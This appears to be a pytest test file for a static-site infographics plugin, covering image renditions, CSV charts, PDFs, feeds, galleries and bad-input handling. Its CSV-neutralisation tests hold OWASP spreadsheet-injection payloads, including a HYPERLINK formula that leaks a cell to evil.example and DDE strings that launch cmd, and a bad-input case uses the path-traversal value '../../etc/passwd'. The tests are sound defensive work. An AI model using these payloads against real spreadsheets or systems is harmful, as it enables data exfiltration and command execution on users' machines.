"""Infographics: galleries, responsive images, PDFs, data, embeds, feeds, cache,
and every kind of bad input."""

from __future__ import annotations

import io
import logging
import re
import shutil
import subprocess
import time
from concurrent.futures import Executor
from datetime import UTC, datetime
from pathlib import Path

import feedparser
import pytest
from bs4 import BeautifulSoup
from PIL import Image

from conftest import (
    AXE,
    AXE_TAGS,
    AXE_VIOLATIONS_JS,
    build,
    require_tool,
    write_content,
)
from infographics.data import (
    chart_spec,
    csv_download,
    is_formula,
    neutralise_cell,
    neutralise_csv,
    parse_number,
    parse_table,
)
from infographics.embed import embedded_slugs, replace_embeds
from infographics.images import Job, plan_renditions, run_jobs
from infographics.settings import SETTINGS
from sitelib import BuildFailed
from sitelib.settings import options, problems
from sitetools.serve import serving

BUILD_DATE = datetime(2020, 1, 1, 9, 0, tzinfo=UTC)

# -- helpers ---------------------------------------------------------------------


def png(width: int, height: int, colour: str = "#336699") -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (width, height), colour).save(buffer, "PNG")
    return buffer.getvalue()


def rotated_jpeg() -> bytes:
    """300×200 as stored, EXIF orientation 6 (shown 200×300), with a camera tag."""
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x010F] = "Test camera"
    buffer = io.BytesIO()
    Image.new("RGB", (300, 200), "#aa3333").save(buffer, "JPEG", exif=exif.tobytes())
    return buffer.getvalue()


def pdf_bytes() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (100, 100), "white").save(buffer, "PDF")
    return buffer.getvalue()


def meta(**fields: str) -> str:
    body = fields.pop("body", "Everything the image says, in words.")
    lines = [f"{key.title()}: {value}" for key, value in fields.items()]
    return "\n".join(lines) + "\n\n" + body + "\n"


def soup(path: Path) -> BeautifulSoup:
    return BeautifulSoup(path.read_text(encoding="utf-8"), "html.parser")


SITEURL = "https://example.org"
FILES = Path("images") / "infographics"

GOOD_FILES: dict[str, str | bytes] = {
    "infographics/tall.png": png(900, 1300),
    "infographics/tall.md": meta(
        title="A tall one",
        date="2020-03-01",
        survey="Survey A",
        image="tall.png",
        alt="A tall test infographic",
        order="2",
    ),
    "infographics/figures.csv": "Answer,Percent\nGood care,69%\nAdequate,0%\n",
    "infographics/chart.md": meta(
        title="A chart",
        date="2020-03-05",
        survey="Survey A",
        data="figures.csv",
        alt="Bar chart: 69% good care, 0% adequate",
        order="1",
        body="The chart in words.",
    ),
    "infographics/photo.jpg": rotated_jpeg(),
    "infographics/supplied.pdf": pdf_bytes(),
    "infographics/photo.md": meta(
        title="A photo",
        date="2020-02-01",
        survey="Survey A",
        image="photo.jpg",
        pdf="supplied.pdf",
        alt="A rotated photo",
    ),
    "infographics/newer.png": png(500, 700, "#228844"),
    "infographics/newer.md": meta(
        title="Newer survey",
        date="2021-01-01",
        survey="Survey B",
        image="newer.png",
        alt="The newer survey's only infographic",
    ),
    "posts/post.md": (
        "Title: A post\nDate: 2020-04-01\n\nIntro.\n\n[infographic: tall]\n\nEnd.\n"
    ),
}


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    base = tmp_path_factory.mktemp("infographics")
    write_content(base / "content", GOOD_FILES)
    return build(
        base / "content",
        base / "output",
        SITEURL=SITEURL,
        FEED_DOMAIN=SITEURL,
        # Absolute URLs, as in production (development builds are relative).
        RELATIVE_URLS=False,
    )


# -- small pure functions ----------------------------------------------------------


def test_renditions_never_upscale_and_include_the_own_width() -> None:
    renditions = plan_renditions(900, 1300, "PNG", (480, 800, 1200, 320))
    assert sorted({r.width for r in renditions}) == [320, 480, 800, 900]
    assert {r.ext for r in renditions} == {"png", "webp"}
    assert next(r for r in renditions if r.width == 480).height == 693
    assert {r.ext for r in plan_renditions(100, 100, "JPEG", (480,))} == {"jpg", "webp"}


def test_table_parsing_is_strict() -> None:
    table = parse_table('Answer,Percent\n"Yes, mostly",69%\n')
    assert table.header == ("Answer", "Percent")
    assert table.rows == (("Yes, mostly", "69%"),)
    with pytest.raises(ValueError, match="row 3 has 1 cells"):
        parse_table("a,b\n1,2\n3\n")
    with pytest.raises(ValueError, match="header row and at least one"):
        parse_table("a,b\n")


def test_numbers_and_chart_scale() -> None:
    assert parse_number("1,350,000") == (1350000.0, False)
    assert parse_number("6.6%") == (6.6, True)
    with pytest.raises(ValueError):
        parse_number("lots")
    percent = chart_spec(parse_table("A,Percent\nx,69\ny,0\n"), "T", "F")
    assert percent.scale_max == 100.0
    assert [row.display for row in percent.rows] == ["69%", "0%"]
    counts = chart_spec(parse_table("A,People\nx,650\ny,550\n"), "T", "F")
    assert counts.scale_max == 650.0
    with pytest.raises(ValueError, match="row 2, column 2"):
        chart_spec(parse_table("A,B\nx,many\n"), "T", "F")


#: OWASP's CSV-injection payloads and their kin: every one must reach the
#: spreadsheet as text.
FORMULA_CELLS = (
    '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    '"=1+1',
    "\uff1d1+1",
    "\uff0bcmd|' /C calc'!A0",
    "\uff0d1",
    "\uff20SUM(A1)",
    "-",
    "+",
    "=",
    "-1+2",
    "--5",
)
PLAIN_CELLS = (
    "-5",
    "+3.2",
    "-1,350,000",
    "-12%",
    "1.5e3",
    " -7 ",
    "Good care",
    "69%",
    "",
    "'=already text",
    "a=b",
    "x@y.org",
    "1-2",
)


def test_formula_cells_are_neutralised() -> None:
    for cell in FORMULA_CELLS:
        assert is_formula(cell), cell
        assert neutralise_cell(cell) == "'" + cell
    for cell in PLAIN_CELLS:
        assert not is_formula(cell), cell
        assert neutralise_cell(cell) == cell


def test_a_csv_file_with_formulas_is_rewritten_quoted() -> None:
    clean = "Answer,Percent\r\nGood care,-5\r\n"
    assert neutralise_csv(clean) == (clean, 0)
    text, changed = neutralise_csv(
        'Answer,Percent\n"=HYPERLINK(""https://evil.example"",""x"")",69%\n'
        "@SUM(1+1),-5\n"
        '"Yes, mostly",+3.2\n'
    )
    assert changed == 2
    assert text == (
        "Answer,Percent\n"
        '"\'=HYPERLINK(""https://evil.example"",""x"")",69%\n'
        '"\'@SUM(1+1)",-5\n'
        '"Yes, mostly",+3.2\n'
    )
    rows = parse_table(text).rows
    assert rows[0][0] == '\'=HYPERLINK("https://evil.example","x")'
    assert [row[1] for row in rows] == ["69%", "-5", "+3.2"]
    data, changed = csv_download(b"\xef\xbb\xbfA,B\r\n+cmd,1\r\n")
    assert (data, changed) == (b'\xef\xbb\xbfA,B\r\n"\'+cmd",1\r\n', 1)
    assert csv_download(b"A,B\nx,-1\n") == (b"A,B\nx,-1\n", 0)


HOSTILE_CSV = (
    "Answer,Percent\n"
    '"=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")",10\n'
    "+cmd|' /C calc'!A0,20\n"
    "@SUM(1+1),-5\n"
    "Plain,+3.2\n"
)


def test_the_csv_download_is_neutralised_and_the_page_says_so(
    tmp_path: Path,
) -> None:
    write_content(
        tmp_path / "content",
        {
            "infographics/hostile.csv": HOSTILE_CSV,
            "infographics/hostile.png": png(400, 300),
            "infographics/hostile.md": meta(
                title="Hostile",
                date="2020-01-01",
                survey="S",
                image="hostile.png",
                data="hostile.csv",
                alt="x",
            ),
            "infographics/clean.csv": "Answer,Percent\nx,5\n",
            "infographics/clean.md": meta(
                title="Clean", date="2020-01-02", survey="S", data="clean.csv", alt="y"
            ),
        },
    )
    site = build(tmp_path / "content", tmp_path / "output")
    written = site / FILES / "hostile" / "hostile.csv"
    assert written.read_text(encoding="utf-8") == (
        "Answer,Percent\n"
        '"\'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")",10\n'
        "\"'+cmd|' /C calc'!A0\",20\n"
        '"\'@SUM(1+1)",-5\n'
        "Plain,+3.2\n"
    )
    page = soup(site / "infographics" / "hostile.html")
    item = page.select(".infographic-downloads li")[-1]
    text = " ".join(item.get_text().split())
    assert f"(CSV, {written.stat().st_size} Bytes)" in text
    assert "Cells that would run as spreadsheet formulas start with '" in text
    # The table on the page shows the figures as written, escaped as text.
    cells = [td.get_text() for td in page.select("table.infographic-data tbody th")]
    assert cells[:3] == [
        '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)",
    ]
    clean = site / FILES / "clean" / "clean.csv"
    assert clean.read_text(encoding="utf-8") == "Answer,Percent\nx,5\n"
    clean_page = soup(site / "infographics" / "clean.html")
    assert "formulas" not in clean_page.select_one(".infographic-downloads").get_text()


def test_embed_syntax() -> None:
    html = "<p>Intro</p>\n<p>[infographic: good-care]</p>\n<p>[infographic:x ]</p>"
    assert embedded_slugs(html) == ["good-care", "x"]
    assert replace_embeds(html, lambda slug: f"<figure>{slug}</figure>") == (
        "<p>Intro</p>\n<figure>good-care</figure>\n<figure>x</figure>"
    )
    assert embedded_slugs("<p>See [infographic: x] inline.</p>") == []


def test_bad_settings_are_reported() -> None:
    bad = {"INFOGRAPHICS_WIDTHS": "800", "INFOGRAPHICS_WORKERS": 0}
    errors = problems(bad, SETTINGS)
    assert {e.field for e in errors} == {"INFOGRAPHICS_WIDTHS", "INFOGRAPHICS_WORKERS"}


def test_settings_are_tidied_for_the_generator() -> None:
    config = options(
        {"INFOGRAPHICS_PATH": "charts/", "INFOGRAPHICS_WIDTHS": [800, 480, 800]},
        SETTINGS,
    )
    assert (config.path, config.widths, config.files_path) == (
        "charts",
        (480, 800),
        "images/infographics",
    )
    assert config.workers >= 1 and config.feed_atom == "feeds/infographics.atom.xml"


def test_derivatives_are_made_in_parallel_once(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    jobs = []
    for number in range(3):
        source = tmp_path / f"{number}.png"
        source.write_bytes(png(400, 300, f"#{number}0{number}0{number}0"))
        jobs.append(
            Job(
                key=str(number),
                folder=str(tmp_path / "cache" / str(number)),
                renditions=plan_renditions(400, 300, "PNG", (200,)),
                title="t",
                date=BUILD_DATE,
                source=str(source),
            )
        )
    caplog.set_level(logging.INFO, logger="infographics")
    first = run_jobs(jobs, workers=2, progress_every=1)
    assert (first.sets_made, first.files_made, first.cached) == (3, 15, 0)
    assert "3 of 3 images done" in caplog.text
    with Image.open(tmp_path / "cache" / "1" / "200.webp") as image:
        assert image.size == (200, 150)
    second = run_jobs(jobs, workers=2, progress_every=1)
    assert (second.sets_made, second.files_made, second.cached) == (0, 0, 3)
    assert not list((tmp_path / "cache").glob("*.tmp-*"))


def test_a_made_pdf_is_the_same_bytes_every_time(tmp_path: Path) -> None:
    source = tmp_path / "a.png"
    source.write_bytes(png(300, 200))
    pdfs = []
    for name in ("first", "second"):
        job = Job(
            key=name,
            folder=str(tmp_path / name),
            renditions=plan_renditions(300, 200, "PNG", ()),
            title="t",
            date=BUILD_DATE,
            source=str(source),
        )
        run_jobs([job], workers=1, progress_every=10)
        pdfs.append((tmp_path / name / "document.pdf").read_bytes())
        time.sleep(1.1)  # a PDF stamped with the clock would now differ
    assert pdfs[0] == pdfs[1]
    assert b"/CreationDate (D:20200101" in pdfs[0]


def test_derivatives_are_still_made_without_a_process_pool(tmp_path: Path) -> None:
    source = tmp_path / "a.png"
    source.write_bytes(png(300, 300))
    jobs = [
        Job(
            key=name,
            folder=str(tmp_path / "cache" / name),
            renditions=plan_renditions(300, 300, "PNG", ()),
            title="t",
            date=BUILD_DATE,
            source=str(source),
            make_pdf=False,
        )
        for name in ("x", "y")
    ]

    def no_pool(_workers: int) -> Executor:
        raise OSError("no /dev/shm")

    result = run_jobs(jobs, workers=4, progress_every=10, pool_factory=no_pool)
    assert (result.sets_made, result.files_made) == (2, 4)


# -- a built site --------------------------------------------------------------------


def test_galleries_grouped_by_survey_newest_first_and_ordered(site: Path) -> None:
    page = soup(site / "infographics" / "index.html")
    sections = page.select("section.infographic-survey")
    assert [s.h2.get_text(strip=True) for s in sections] == ["Survey B", "Survey A"]
    titles = [
        t.get_text(strip=True) for t in sections[1].select(".infographic-card-title")
    ]
    # Order: 1, then Order: 2, then no Order.
    assert titles == ["A chart", "A tall one", "A photo"]
    survey = soup(site / "infographics" / "survey-a" / "index.html")
    assert survey.h1.get_text(strip=True) == "Survey A"
    links = [a["href"] for a in survey.select(".infographic-card a")]
    assert links == [
        f"{SITEURL}/infographics/chart.html",
        f"{SITEURL}/infographics/tall.html",
        f"{SITEURL}/infographics/photo.html",
    ]
    loading = [img["loading"] for img in survey.select(".infographic-card img")]
    assert loading == ["eager", "eager", "lazy"]


def _srcset(value: str) -> list[tuple[str, int]]:
    pairs = [entry.strip().rsplit(" ", 1) for entry in value.split(",")]
    return [(url, int(width.rstrip("w"))) for url, width in pairs]


def test_picture_srcset_files_exist_with_stated_sizes(site: Path) -> None:
    page = soup(site / "infographics" / "tall.html")
    picture = page.select_one(".infographic-main picture")
    source = picture.source
    assert source["type"] == "image/webp"
    img = picture.img
    assert img["alt"] == "A tall test infographic"
    assert img["loading"] == "eager"
    assert (img["width"], img["height"]) == ("900", "1300")
    for srcset, fmt in ((source["srcset"], "WEBP"), (img["srcset"], "PNG")):
        entries = _srcset(srcset)
        assert [w for _, w in entries] == [320, 480, 640, 800, 900]
        for url, width in entries:
            with Image.open(site / url.removeprefix(f"{SITEURL}/")) as image:
                assert image.format == fmt
                assert image.size == (width, round(1300 * width / 900))


def test_exif_orientation_applied_and_metadata_stripped(site: Path) -> None:
    img = soup(site / "infographics" / "photo.html").select_one(".infographic-main img")
    assert (img["width"], img["height"]) == ("200", "300")
    for name in ("photo-200.jpg", "photo-200.webp"):
        with Image.open(site / FILES / "photo" / name) as image:
            assert image.size == (200, 300)
            assert not image.getexif()


def test_pdf_generated_when_absent_and_copied_when_supplied(site: Path) -> None:
    made = site / FILES / "tall" / "tall.pdf"
    assert made.read_bytes().startswith(b"%PDF-")
    supplied = site / FILES / "photo" / "photo.pdf"
    assert supplied.read_bytes() == GOOD_FILES["infographics/supplied.pdf"]
    pdfinfo = shutil.which("pdfinfo")
    require_tool("pdfinfo", pdfinfo is not None, "apt-get install poppler-utils")
    info = subprocess.run(
        [pdfinfo, str(made)], capture_output=True, text=True, check=True
    ).stdout
    assert re.search(r"Pages:\s+1\b", info)
    assert "A tall one" in info


def test_downloads_list_sizes(site: Path) -> None:
    page = soup(site / "infographics" / "tall.html")
    items = [
        li.get_text(" ", strip=True) for li in page.select(".infographic-downloads li")
    ]
    assert items[0].startswith("Full-size image (PNG, 900 × 1300 pixels,")
    assert re.match(r"PDF \([\d.]+ (kB|Bytes)\)", items[1])
    hrefs = [a["href"] for a in page.select(".infographic-downloads a")]
    assert hrefs[0] == f"{SITEURL}/images/infographics/tall/tall-900.png"


def test_chart_from_data_svg_png_and_table(site: Path) -> None:
    page = soup(site / "infographics" / "chart.html")
    svg = page.select_one(".infographic-main svg")
    assert svg["role"] == "img"
    assert svg.title.get_text() == "A chart"
    assert len(svg.select("rect.chart-bar")) == 2
    table = page.select_one("table.infographic-data")
    assert [th.get_text() for th in table.thead.select("th")] == ["Answer", "Percent"]
    rows = [
        [c.get_text() for c in tr.select("th, td")] for tr in table.tbody.select("tr")
    ]
    assert rows == [["Good care", "69%"], ["Adequate", "0%"]]
    csv = site / FILES / "chart" / "chart.csv"
    assert csv.read_text() == GOOD_FILES["infographics/figures.csv"]
    with Image.open(site / FILES / "chart" / "chart-1200.png") as image:
        assert image.width == 1200
    assert (site / FILES / "chart" / "chart.pdf").is_file()


def test_previous_next_within_the_survey(site: Path) -> None:
    nav = soup(site / "infographics" / "tall.html").select_one("nav.post-nav")
    assert nav.select_one("a[rel=prev]")["href"].endswith("/infographics/chart.html")
    assert nav.select_one("a[rel=next]")["href"].endswith("/infographics/photo.html")


def test_open_graph_image(site: Path) -> None:
    head = soup(site / "infographics" / "tall.html").head
    image = head.find("meta", property="og:image")["content"]
    assert image == f"{SITEURL}/images/infographics/tall/tall-900.png"
    assert head.find("meta", property="og:image:width")["content"] == "900"
    assert head.find("meta", property="og:image:height")["content"] == "1300"
    feeds = [link["href"] for link in head.select('link[rel="alternate"]')]
    assert f"{SITEURL}/feeds/infographics.atom.xml" in feeds
    assert f"{SITEURL}/feeds/infographics.rss.xml" in feeds


def test_embed_in_a_post(site: Path) -> None:
    post = soup(next((site / "posts").rglob("a-post.html")))
    figure = post.select_one(".post-content figure.infographic-figure")
    assert figure.picture.source["type"] == "image/webp"
    assert figure.img["alt"] == "A tall test infographic"
    assert figure.figcaption.a["href"] == f"{SITEURL}/infographics/tall.html"
    assert "[infographic:" not in post.get_text()


def test_infographics_are_not_articles(site: Path) -> None:
    assert not list((site / "posts").rglob("tall.html"))
    assert not (site / "infographics" / "tall.md").exists()


def test_feeds(site: Path) -> None:
    atom = feedparser.parse((site / "feeds" / "infographics.atom.xml").read_bytes())
    rss = feedparser.parse((site / "feeds" / "infographics.rss.xml").read_bytes())
    for feed in (atom, rss):
        assert not feed.bozo
        assert [e.title for e in feed.entries] == [
            "Newer survey",
            "A chart",
            "A tall one",
            "A photo",
        ]
        assert feed.entries[0].link == f"{SITEURL}/infographics/newer.html"
        assert feed.feed.link == f"{SITEURL}/infographics/"
        assert all(entry.get("author") for entry in feed.entries)
    assert 'src="https://example.org/' in atom.entries[2].content[0].value


def test_rebuild_without_changes_does_no_image_work(
    site: Path, caplog: pytest.LogCaptureFixture
) -> None:
    cache = site.parent / "cache" / "infographics"
    before = {p: p.stat().st_mtime_ns for p in cache.rglob("*") if p.is_file()}
    assert len(before) > 20
    caplog.set_level(logging.INFO, logger="infographics")
    build(site.parent / "content", site, SITEURL=SITEURL, FEED_DOMAIN=SITEURL)
    runs = [
        r.infographics_run for r in caplog.records if hasattr(r, "infographics_run")
    ]
    assert len(runs) == 1
    assert (runs[0].sets_made, runs[0].files_made, runs[0].cached) == (0, 0, 4)
    after = {p: p.stat().st_mtime_ns for p in cache.rglob("*") if p.is_file()}
    assert after == before
    assert (site / FILES / "tall" / "tall-320.webp").is_file()


# -- bad input ------------------------------------------------------------------------

BAD_FILES: dict[str, str | bytes] = {
    "infographics/no-alt.png": png(50, 50),
    "infographics/no-alt.md": meta(
        title="No alt", date="2020-01-01", survey="S", image="no-alt.png"
    ),
    "infographics/missing-image.md": meta(
        title="Missing image", date="2020-01-01", survey="S", image="nope.png", alt="x"
    ),
    "infographics/not-an-image.png": b"this is text, not a PNG",
    "infographics/not-image.md": meta(
        title="Not image",
        date="2020-01-01",
        survey="S",
        image="not-an-image.png",
        alt="x",
    ),
    "infographics/huge.png": png(200, 200),
    "infographics/huge.md": meta(
        title="Huge", date="2020-01-01", survey="S", image="huge.png", alt="x"
    ),
    "infographics/broken.csv": 'a,b\n"unclosed,1\n',
    "infographics/bad-csv.md": meta(
        title="Bad CSV", date="2020-01-01", survey="S", data="broken.csv", alt="x"
    ),
    "infographics/outside.md": meta(
        title="Outside",
        date="2020-01-01",
        survey="S",
        image="../../etc/passwd",
        alt="x",
    ),
    "infographics/no-survey.png": png(50, 50),
    "infographics/no-survey.md": meta(
        title="No survey", date="2020-01-01", image="no-survey.png", alt="x"
    ),
    "infographics/fake.pdf": b"not a pdf",
    "infographics/bad-order.png": png(50, 50),
    "infographics/bad-order.md": meta(
        title="Bad order",
        date="2020-01-01",
        survey="S",
        image="bad-order.png",
        alt="x",
        order="first",
        pdf="fake.pdf",
    ),
    "infographics/same-slug.md": meta(
        title="Same slug", date="2020-01-01", survey="S", slug="huge", data="x.csv"
    ),
    "posts/embeds.md": "Title: Embeds\nDate: 2020-01-01\n\n[infographic: ghost]\n",
}

EXPECTED_PROBLEMS = (
    "content/infographics/no-alt.md: Alt: is missing",
    "content/infographics/missing-image.md: Image: image 'nope.png' does not exist",
    "content/infographics/not-image.md: Image: 'not-an-image.png' is not a readable "
    "image",
    "content/infographics/huge.md: Image: 'huge.png' is 200×200 pixels, over the limit "
    "of 10,000 pixels",
    "content/infographics/bad-csv.md: Data: 'broken.csv' cannot be used",
    "content/infographics/outside.md: Image: '../../etc/passwd' points outside the "
    "content folder",
    "content/infographics/no-survey.md: Survey: is missing",
    "content/infographics/bad-order.md: Order: 'first' is not a whole number",
    "content/infographics/bad-order.md: PDF: 'fake.pdf' is missing or is not a PDF",
    "content/infographics/same-slug.md: Alt: is missing",
    "content/infographics/same-slug.md: Data: 'x.csv' cannot be used: the file does "
    "not exist",
    "content/infographics/huge.md and content/infographics/same-slug.md: Slug: two "
    "infographics share the slug 'huge'",
    "content/posts/embeds.md: infographic embed: there is no infographic with the slug "
    "'ghost'",
)


def test_every_bad_input_is_reported_in_one_run_and_nothing_is_written(
    tmp_path: Path,
) -> None:
    write_content(tmp_path / "content", BAD_FILES)
    output = tmp_path / "output"
    with pytest.raises(BuildFailed) as failure:
        build(tmp_path / "content", output, INFOGRAPHICS_MAX_PIXELS=10_000)
    problems = failure.value.problems
    for expected in EXPECTED_PROBLEMS:
        assert any(line.startswith(expected) for line in problems), (expected, problems)
    assert all("Fix:" in line for line in problems if "infographic" in line)
    assert not (output / "infographics").exists()
    assert not (output / FILES).exists()
    assert not list(output.rglob("*.html")) if output.exists() else True
    # Pillow's own decompression-bomb guard is still on.
    assert Image.MAX_IMAGE_PIXELS is not None


def test_an_image_that_cannot_be_decoded_stops_the_build(tmp_path: Path) -> None:
    buffer = io.BytesIO()
    Image.effect_noise((400, 400), 60).save(buffer, "PNG")
    # The header is intact, so the check passes; decoding fails in a worker.
    truncated = buffer.getvalue()[: len(buffer.getvalue()) // 2]
    write_content(
        tmp_path / "content",
        {
            "infographics/cut.png": truncated,
            "infographics/cut.md": meta(
                title="Cut", date="2020-01-01", survey="S", image="cut.png", alt="x"
            ),
        },
    )
    with pytest.raises(BuildFailed) as failure:
        build(tmp_path / "content", tmp_path / "output")
    assert any(
        line.startswith("content/infographics/cut.md: Image: could not be processed")
        for line in failure.value.problems
    ), failure.value.problems
    assert not (tmp_path / "output" / FILES).exists()
    assert not list((tmp_path / "cache" / "infographics").glob("*"))


# -- the lightbox in a real browser -------------------------------------------------


@pytest.mark.browser
def test_lightbox_keyboard_and_screen_reader(tmp_path: Path, browser) -> None:
    output = tmp_path / "output"
    output.mkdir()
    with serving(output) as siteurl:
        write_content(tmp_path / "content", GOOD_FILES)
        build(tmp_path / "content", output, SITEURL=siteurl, FEED_DOMAIN=siteurl)
        gallery = f"{siteurl}/infographics/survey-a/"
        context = browser.new_context()
        page = context.new_page()
        page.goto(gallery)
        page.focus(".infographic-card a")
        page.keyboard.press("Enter")
        dialog = page.locator("dialog.lightbox")
        assert dialog.get_attribute("open") is not None
        assert page.evaluate("document.activeElement.closest('dialog') !== null")
        assert dialog.locator("h2").inner_text() == "A chart"
        assert dialog.locator("[aria-live]").inner_text() == "1 of 3"
        assert dialog.locator("img").get_attribute("alt").startswith("Bar chart")
        page.keyboard.press("ArrowRight")
        assert dialog.locator("h2").inner_text() == "A tall one"
        assert dialog.locator("[aria-live]").inner_text() == "2 of 3"
        page.add_script_tag(path=str(AXE))
        assert page.evaluate(AXE_VIOLATIONS_JS, AXE_TAGS) == []
        page.keyboard.press("Escape")
        assert dialog.get_attribute("open") is None
        assert page.evaluate("document.activeElement.textContent").strip()
        assert page.evaluate(
            "document.activeElement === document.querySelector('.infographic-card a')"
        )
        context.close()
        # Without JavaScript a tile is an ordinary link to the page.
        plain_context = browser.new_context(java_script_enabled=False)
        plain = plain_context.new_page()
        plain.goto(gallery)
        plain.click(".infographic-card a")
        assert plain.url == f"{siteurl}/infographics/chart.html"
        plain_context.close()


def test_a_broken_link_in_a_description_stops_the_build(tmp_path: Path) -> None:
    write_content(
        tmp_path / "content",
        {
            "infographics/linked.csv": "A,Percent\nx,10\n",
            "infographics/linked.md": meta(
                title="Linked",
                date="2020-01-01",
                survey="S",
                data="linked.csv",
                alt="x",
                body="See [the post]({filename}/posts/missing.md).",
            ),
        },
    )
    with pytest.raises(BuildFailed) as failure:
        build(tmp_path / "content", tmp_path / "output")
    assert any(
        line.startswith("content/infographics/linked.md: link: '/posts/missing.md'")
        for line in failure.value.problems
    ), failure.value.problems
